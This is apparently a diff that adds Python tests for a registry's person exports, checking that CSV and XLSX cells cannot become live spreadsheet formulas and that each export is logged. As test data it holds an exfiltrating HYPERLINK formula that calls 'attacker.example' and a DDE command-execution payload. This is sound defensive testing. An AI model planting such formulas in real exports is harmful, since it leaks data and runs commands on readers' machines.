@@ -1,0 +1,81 @@
+"""Exports: every exported person is logged, and no cell of any export can become a live
+formula in a spreadsheet (CSV/XLSX injection)."""
+
+import csv
+import io
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from sejahtera.accounts.models import Role, SensitiveAccess
+from sejahtera.registry.services.exports import FORMULA_TRIGGERS, csv_chunks, safe_cell
+
+VILLAGE = "3201011002"
+FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"klik")'
+
+
+@given(st.text())
+def test_no_text_leaves_as_a_formula(text):
+    cell = safe_cell(text)
+    if cell.startswith(FORMULA_TRIGGERS):
+        float(cell)  # only a plain number may start with a sign
+    if not text.startswith(FORMULA_TRIGGERS):
+        assert cell == text  # everything else is written as it is
+
+
+@given(st.decimals(allow_nan=False, allow_infinity=False, places=6) | st.integers())
+def test_numbers_stay_numbers(number):
+    assert safe_cell(number) == number
+    assert safe_cell(str(number)) == str(number)  # "-6.25" is a coordinate, not a formula
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1"])
+def test_formula_starts_are_neutralised(text):
+    assert safe_cell(text) == "'" + text
+    row = "".join(csv_chunks([[text, "-6.25"]]))
+    assert next(csv.reader(io.StringIO(row))) == ["'" + text, "-6.25"]
+
+
+@pytest.fixture
+def attacker_household(household_factory):
+    return household_factory(
+        VILLAGE,
+        members=[
+            {"full_name": FORMULA, "sex": "L", "birth_date": "1980-01-15", "relationship": "head"},
+            {"full_name": "Ani", "sex": "P", "birth_date": "1985-01-15", "relationship": "spouse"},
+        ],
+        latitude="-6.5",
+        longitude="106.8",
+    )
+
+
+@pytest.mark.django_db
+def test_person_exports_neutralise_formulas(client, make_user, attacker_household):
+    client.force_login(make_user(Role.DISTRICT_OFFICE, "3201"))
+    text = b"".join(client.get("/registry/export.csv").streaming_content).decode()
+    names = [row["full_name"] for row in csv.DictReader(io.StringIO(text))]
+    assert "'" + FORMULA in names
+    sheet = load_workbook(io.BytesIO(client.get("/registry/export.xlsx").content)).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    formula_cell = next(c for c in cells if "HYPERLINK" in str(c.value))
+    assert formula_cell.data_type == "s"
+    assert formula_cell.value == "'" + FORMULA
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("role", [Role.DISTRICT_OFFICE, Role.MINISTRY_ANALYST])
+def test_every_export_is_logged_with_the_persons_it_held(
+    client, make_user, attacker_household, role
+):
+    user = make_user(role, "3201" if role == Role.DISTRICT_OFFICE else None)
+    client.force_login(user)
+    for fmt in ("csv", "xlsx"):
+        response = client.get(f"/registry/export.{fmt}?q=ani")
+        if fmt == "csv":
+            b"".join(response.streaming_content)
+    logged = SensitiveAccess.objects.filter(user=user, entity="person_export")
+    ani = attacker_household.members.get(full_name="Ani")
+    assert [entry.record_ids for entry in logged] == [[ani.pk], [ani.pk]]
+    assert all("/registry/export." in entry.path for entry in logged)
